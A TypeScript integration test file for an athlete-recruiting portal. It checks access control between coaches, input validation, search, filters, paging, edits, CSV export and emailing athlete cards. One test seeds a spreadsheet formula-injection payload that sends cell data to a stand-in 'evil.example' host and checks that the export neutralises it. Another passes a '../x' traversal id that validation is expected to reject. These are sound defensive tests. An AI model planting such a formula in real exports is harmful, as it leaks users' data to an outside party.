import { parse } from "csv-parse/sync";
import { Timestamp } from "firebase-admin/firestore";
import { COACH_ONLY_MESSAGE } from "@machines/portal/coachOnly";
import { describe, expect, it } from "vitest";
import type { CallableName, CallableRequest } from "@machines/callables";
import { ATHLETE_MESSAGES } from "@machines/portal/athletes";
import { emptyExtractedAthlete, type ExtractedAthlete } from "@machines/inbox/extractedAthlete";
import { db } from "../../functions/src/lib/admin";
import { fixtureAthletes, seedAthletes } from "../../scripts/portal/seedAthletes";
import { clientsForThisFile, rejectionOf } from "../support/clientApp";
import { emailsTo, waitForEmail } from "../support/mailCatcher";
import { coachWithTrial } from "../support/onboardingFlow";

const client = clientsForThisFile();

/** A coach whose token carries the coach role (set when the trial started). */
async function signedInCoach(label: string) {
  const started = await coachWithTrial(client, label);
  await started.coach.refreshToken();
  return { ...started, uid: started.coach.uid! };
}

const span = { start: 0, end: 1, snippet: "from the test" };
const value = <T>(v: T) => ({ value: v, confidence: 0.9, source: span });

function athlete(first: string, last: string, extra: Partial<ExtractedAthlete> = {}): ExtractedAthlete {
  return {
    ...emptyExtractedAthlete(),
    sport: value("volleyball" as const),
    firstName: value(first),
    lastName: value(last),
    gradYear: value(2027),
    positions: value(["OH"]),
    height: value({ written: "6'0\"", inches: 72 }),
    clubTeam: value("KJV 17 Elite"),
    city: value("Lexington"),
    state: value("KY"),
    email: value(`${first}.${last}@gmail.com`.toLowerCase()),
    ...extra,
  };
}

const everyone = { filters: {}, sort: { by: "name", direction: "asc" }, page: 1, pageSize: 25 } as const;
const names = (rows: ReadonlyArray<{ firstName: string | null; lastName: string | null }>) => rows.map((row) => `${row.firstName} ${row.lastName}`);

/** One valid request per athlete callable, aimed at `athleteId`. */
function requests(athleteId: string): { [N in CallableName]?: CallableRequest<N> } {
  return {
    listAthletes: everyone,
    getAthlete: { athleteId },
    updateAthlete: { athleteId, rating: 5, notes: "taken over", corrections: { clubTeam: "Hijacked" } },
    exportAthletesCsv: { filters: {}, sort: { by: "name", direction: "asc" } },
    sendAthleteToUa: { athleteIds: [athleteId] },
  };
}

describe("athlete callables: who may call them", () => {
  it("refuse visitors who are not signed in, and signed-in users without the coach role", async () => {
    const visitor = await client({ signedIn: false });
    const guest = await client();
    for (const [name, request] of Object.entries(requests("someAthlete"))) {
      expect(await rejectionOf(visitor.call(name as CallableName, request))).toMatchObject({ code: "functions/unauthenticated" });
      expect(await rejectionOf(guest.call(name as CallableName, request))).toMatchObject({ code: "functions/permission-denied", message: COACH_ONLY_MESSAGE });
    }
  });

  it("never let a second coach read or change the first coach's athletes", async () => {
    const first = await signedInCoach("owner");
    const second = await signedInCoach("intruder");
    const [maya] = await seedAthletes(first.uid, [athlete("Maya", "Thompson")]);
    await db.collection("users").doc(second.uid).update({ uaNoteAddress: "intruder-notes@ua.example" });
    const before = (await db.collection("users").doc(first.uid).collection("athletes").doc(maya!.id).get()).data();

    expect(await second.coach.call("listAthletes", everyone)).toMatchObject({ rows: [], total: 0, totalAthletes: 0 });
    const csv = await second.coach.call("exportAthletesCsv", { filters: {}, sort: { by: "name", direction: "asc" } });
    expect(csv.count).toBe(0);
    expect(csv.csv).not.toContain("Thompson");
    for (const name of ["getAthlete", "updateAthlete", "sendAthleteToUa"] as const) {
      expect(await rejectionOf(second.coach.call(name, requests(maya!.id)[name]!))).toMatchObject({ code: "functions/not-found", message: ATHLETE_MESSAGES.notFound });
    }
    expect((await db.collection("users").doc(first.uid).collection("athletes").doc(maya!.id).get()).data()).toEqual(before);
    expect(await emailsTo("intruder-notes@ua.example")).toEqual([]);
    expect((await first.coach.call("getAthlete", { athleteId: maya!.id })).fields.clubTeam?.value).toBe("KJV 17 Elite");
  });

  it("validate input with the shared schemas", async () => {
    const { coach } = await signedInCoach("inputs");
    const failure = await rejectionOf(coach.call("listAthletes", { ...everyone, pageSize: 1000, filters: { states: ["Kentucky"] } }));
    expect(failure.code).toBe("functions/invalid-argument");
    expect(Object.keys(failure.fieldErrors)).toEqual(expect.arrayContaining(["pageSize", "filters.states.0"]));
    expect((await rejectionOf(coach.call("updateAthlete", { athleteId: "../x", rating: 9 }))).code).toBe("functions/invalid-argument");
  });
});

describe("listAthletes", () => {
  it("searches name, club, high school and city forgiving typos, filters, sorts and pages", async () => {
    const { coach, uid } = await signedInCoach("search");
    await seedAthletes(
      uid,
      [
        athlete("Maya", "Thompson", { highSchool: value("Lafayette High School"), videoUrls: value(["https://youtu.be/maya1"]) }),
        athlete("Ava", "Johnson", { clubTeam: value("Munciana 16 Red"), city: value("Carmel"), state: value("IN"), gradYear: value(2026), height: value({ written: "5'8\"", inches: 68 }) }),
        athlete("Zoë", "Müller", { positions: value(["S"]), state: value("TX"), city: value("Austin"), gradYear: value(2028), height: value({ written: "5'10\"", inches: 70 }) }),
        athlete("Kate", "Smith", { sport: value("softball" as const), positions: value(["P", "1B"]), state: value("CA"), city: value("Long Beach"), height: value({ written: "5'6\"", inches: 66 }) }),
      ],
      { start: new Date() },
    );

    const search = async (query: string) => names((await coach.call("listAthletes", { ...everyone, filters: { query } })).rows);
    expect(await search("Thompsen")).toEqual(["Maya Thompson"]);
    expect(await search("thom")).toEqual(["Maya Thompson"]);
    expect(await search("munciana")).toEqual(["Ava Johnson"]);
    expect(await search("lafayete")).toEqual(["Maya Thompson"]);
    expect(await search("zoe austin")).toEqual(["Zoë Müller"]);
    expect(await search("long beach")).toEqual(["Kate Smith"]);
    expect(await search("nobody here")).toEqual([]);

    const filtered = async (filters: CallableRequest<"listAthletes">["filters"]) => names((await coach.call("listAthletes", { ...everyone, filters })).rows);
    expect(await filtered({ states: ["IN", "TX"] })).toEqual(["Ava Johnson", "Zoë Müller"]);
    expect(await filtered({ gradYears: [2026, 2028] })).toEqual(["Ava Johnson", "Zoë Müller"]);
    expect(await filtered({ minHeight: 68, maxHeight: 70 })).toEqual(["Ava Johnson", "Zoë Müller"]);
    expect(await filtered({ hasVideo: true })).toEqual(["Maya Thompson"]);
    expect(await filtered({ sport: "softball" })).toEqual(["Kate Smith"]);
    expect(await filtered({ positions: ["1B"] })).toEqual(["Kate Smith"]);
    expect(await filtered({ newSinceLastReport: true })).toHaveLength(4);
    // The four arrived a minute apart; a report sent after all of them leaves none new.
    await db.collection("users").doc(uid).update({ lastReportAt: Timestamp.fromMillis(Date.now() + 10 * 60_000) });
    expect(await filtered({ newSinceLastReport: true })).toEqual([]);

    const sorted = async (by: CallableRequest<"listAthletes">["sort"]["by"], direction: "asc" | "desc") =>
      names((await coach.call("listAthletes", { ...everyone, sort: { by, direction } })).rows);
    expect(await sorted("height", "desc")).toEqual(["Maya Thompson", "Zoë Müller", "Ava Johnson", "Kate Smith"]);
    expect(await sorted("gradYear", "asc")).toEqual(["Ava Johnson", "Kate Smith", "Maya Thompson", "Zoë Müller"]);
    expect(await sorted("name", "desc")).toEqual(["Maya Thompson", "Kate Smith", "Zoë Müller", "Ava Johnson"]);

    const page2 = await coach.call("listAthletes", { ...everyone, page: 2, pageSize: 25 });
    expect(page2).toMatchObject({ rows: [], total: 4, totalAthletes: 4, page: 2 });
    const list = await coach.call("listAthletes", everyone);
    expect(list.facets).toEqual({ sports: ["softball", "volleyball"], positions: ["1B", "OH", "P", "S"], gradYears: [2026, 2027, 2028], states: ["CA", "IN", "KY", "TX"], tags: [] });
  });

  it("builds the index once for athletes stored before it existed", async () => {
    const { coach, uid } = await signedInCoach("backfill");
    const [maya] = await seedAthletes(uid, [athlete("Maya", "Thompson")]);
    const athletes = db.collection("users").doc(uid).collection("athletes");
    // As if written before the index: the record alone, no index rows.
    const chunks = await db.collection("users").doc(uid).collection("athleteIndex").get();
    await Promise.all(chunks.docs.map((doc) => doc.ref.delete()));
    expect((await athletes.doc(maya!.id).get()).exists).toBe(true);
    expect(names((await coach.call("listAthletes", everyone)).rows)).toEqual(["Maya Thompson"]);
    expect((await db.collection("users").doc(uid).collection("athleteIndex").get()).size).toBe(1);
  });

  it("pages through a larger list without repeating or skipping anyone", async () => {
    const { coach, uid } = await signedInCoach("pages");
    await seedAthletes(uid, fixtureAthletes(120, 7));
    const seen: string[] = [];
    for (let page = 1; page <= 3; page++) {
      const answer = await coach.call("listAthletes", { ...everyone, page, pageSize: 50 });
      expect(answer.total).toBe(120);
      seen.push(...answer.rows.map((row) => row.id));
    }
    expect(new Set(seen).size).toBe(120);
  });
});

describe("getAthlete and updateAthlete", () => {
  it("keep the coach's rating, tags, notes and corrections, shown in the list and its search", async () => {
    const { coach, uid } = await signedInCoach("edits");
    const [maya] = await seedAthletes(uid, [athlete("Maya", "Thompson")]);
    const updated = await coach.call("updateAthlete", {
      athleteId: maya!.id,
      rating: 4,
      tags: ["watch at nationals", "lefty"],
      notes: "Great arm swing.\nCall her club coach.",
      corrections: { clubTeam: "Skyline 17 Royal", gradYear: 2028 },
    });
    expect(updated).toMatchObject({ rating: 4, tags: ["watch at nationals", "lefty"], notes: "Great arm swing.\nCall her club coach." });
    expect(updated.fields.clubTeam).toMatchObject({ value: "Skyline 17 Royal", correctedByCoach: true, confidence: 1, sourceEmailId: null });
    expect(updated.fields.city).toMatchObject({ value: "Lexington", correctedByCoach: false, confidence: 0.9 });

    const [row] = (await coach.call("listAthletes", { ...everyone, filters: { query: "skyline", tag: "lefty" } })).rows;
    expect(row).toMatchObject({ id: maya!.id, rating: 4, gradYear: 2028, clubTeam: "Skyline 17 Royal", note: "Great arm swing. Call her club coach." });
    expect((await coach.call("updateAthlete", { athleteId: maya!.id, rating: null })).rating).toBeNull();
  });
});

describe("exportAthletesCsv", () => {
  it("exports the current view as UTF-8 with a BOM and neutralises a hostile =HYPERLINK value", async () => {
    const { coach, uid } = await signedInCoach("csv");
    // As an email could carry it (a coach's correction is refused: it holds a web address).
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Film")';
    await seedAthletes(uid, [athlete("Maya", "Thompson", { clubTeam: value(hostile) }), athlete("Ava", "Johnson", { state: value("IN") })]);

    const exported = await coach.call("exportAthletesCsv", { filters: { states: ["KY"] }, sort: { by: "name", direction: "asc" } });
    expect(exported.count).toBe(1);
    expect(exported.filename).toMatch(/^inboxscout-athletes-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(exported.csv.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(exported.csv.slice(1), { relax_quotes: true }) as string[][];
    expect(rows).toHaveLength(2);
    expect(rows[1]![0]).toBe("Maya Thompson");
    expect(rows[1]![6]).toBe(`'${hostile}`);
  });
});

describe("sendAthleteToUa", () => {
  async function coachWithUa(label: string) {
    const started = await signedInCoach(label);
    const uaAddress = `notes.${started.uid.slice(0, 8).toLowerCase()}@ua.example`;
    return { ...started, uaAddress };
  }

  it("asks for the UA note address first, then mails each athlete card there once a day", async () => {
    const { coach, uid, uaAddress, email } = await coachWithUa("ua");
    const [maya, ava] = await seedAthletes(uid, [athlete("Maya", "Thompson", { videoUrls: value(["youtu.be/maya1"]) }), athlete("Ava", "Johnson")]);
    expect(await rejectionOf(coach.call("sendAthleteToUa", { athleteIds: [maya!.id] }))).toMatchObject({ code: "functions/failed-precondition", message: ATHLETE_MESSAGES.noUaAddress });

    await db.collection("users").doc(uid).update({ uaNoteAddress: uaAddress });
    await coach.call("updateAthlete", { athleteId: maya!.id, rating: 5, notes: "Top target" });
    expect(await coach.call("sendAthleteToUa", { athleteIds: [maya!.id] })).toEqual({ sent: 1, alreadySentToday: 0 });
    const card = await waitForEmail(uaAddress, "Maya Thompson (OH, Class of 2027)", 30_000);
    expect(card.text).toContain("Club: KJV 17 Elite");
    expect(card.text).toContain("https://youtu.be/maya1");
    expect(card.text).toContain("Notes: Top target");
    expect(card.text).toContain("Your rating: 5 of 5");

    // The bulk action: Maya was sent today already, Ava goes now.
    expect(await coach.call("sendAthleteToUa", { athleteIds: [maya!.id, ava!.id] })).toEqual({ sent: 1, alreadySentToday: 1 });
    await waitForEmail(uaAddress, "Ava Johnson", 30_000);
    expect((await emailsTo(uaAddress)).map((mail) => mail.subject).sort()).toEqual(["Ava Johnson (OH, Class of 2027)", "Maya Thompson (OH, Class of 2027)"]);
    expect(await emailsTo(email).then((mails) => mails.filter((mail) => mail.subject.includes("Maya")))).toEqual([]);
  });
});

